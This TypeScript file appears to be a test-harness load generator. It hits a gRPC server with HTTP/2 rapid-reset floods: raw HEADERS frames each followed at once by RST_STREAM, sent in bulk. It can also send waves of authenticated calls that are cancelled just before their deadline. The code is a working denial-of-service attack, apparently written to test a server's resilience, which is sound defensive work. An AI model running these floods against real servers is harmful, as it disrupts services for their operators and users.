/**
 * A program that puts one of two loads on a server, both of which reset many calls: `reset-attacks.js flood|deadlines HOST:PORT`.
 */
import { type ClientHttp2Stream, connect as connectHttp2, type IncomingHttpHeaders } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { END_HEADERS, frame, many, RawConnection, Type, word } from "./attacks/raw-connection.ts";
import { head, ONE_BYTE } from "./attacks/requests.ts";

/** The error code CANCEL (RFC 9113, section 7). */
const CANCEL = 8;
const FLOODS_PER_SECOND = 2.5;
const PAIRS = 1_200;
const WAVE = 90;
const DEADLINE_MS = 300;
const HEAD = head("GenerateRandom");

/** Opens one connection, starts `PAIRS` calls on it and resets each of them immediately. */
function flood(port: number): void {
  const connection = new RawConnection({ port, tls: false, localAddress: "127.0.0.1" });
  const pair = (stream: number) => [
    frame(Type.headers, END_HEADERS, stream, HEAD),
    frame(Type.reset, 0, stream, word(CANCEL)),
  ];
  void connection.send(many(PAIRS, () => Buffer.concat(pair(connection.stream()))));
  setTimeout(() => connection.leave(), 1_000);
}

/**
 * Runs an authenticated client that makes waves of calls which exceed their deadline. It notifies the parent process whenever it
 * has to reconnect. Errors: those of {@link requireAdmitted}.
 */
async function deadlines(address: string): Promise<void> {
  const open = () => connectHttp2(`http://${address}`).on("error", () => undefined);
  let session = open();
  const call = (headers: object) =>
    session
      .request({
        ":method": "POST",
        ":path": "/grep11.Crypto/GenerateRandom",
        "content-type": "application/grpc",
        authorization: "Bearer bob",
        ...headers,
      })
      .on("error", () => undefined)
      .resume();
  await requireAdmitted(call({}));
  for (;;) {
    if (session.destroyed) {
      process.send!("cut");
      session = open();
    }
    call({}).end(ONE_BYTE);
    const streams = Array.from({ length: WAVE }, () => call({ "grpc-timeout": `${DEADLINE_MS}m` }));
    await sleep(DEADLINE_MS * 0.97);
    for (const stream of streams) stream.close(CANCEL);
    await sleep(50);
  }
}

/** Rejects unless the call succeeds. A client whose calls are refused would be a different load. */
function requireAdmitted(stream: ClientHttp2Stream): Promise<void> {
  return new Promise((resolve, reject) => {
    const check = ({ "grpc-status": status, "grpc-message": message }: IncomingHttpHeaders) => {
      if (status === "0") resolve();
      else if (status !== undefined) reject(new Error(`the server refused the load: ${message}`));
    };
    stream.on("response", check).on("trailers", check);
    stream.on("close", () => reject(new Error("the server did not respond to the load")));
    stream.end(ONE_BYTE);
  });
}

const [, , kind, address = ""] = process.argv;
process.on("disconnect", () => process.exit());
if (kind === "flood") setInterval(() => flood(Number(address.split(":").at(-1))), 1_000 / FLOODS_PER_SECOND);
else await deadlines(address);
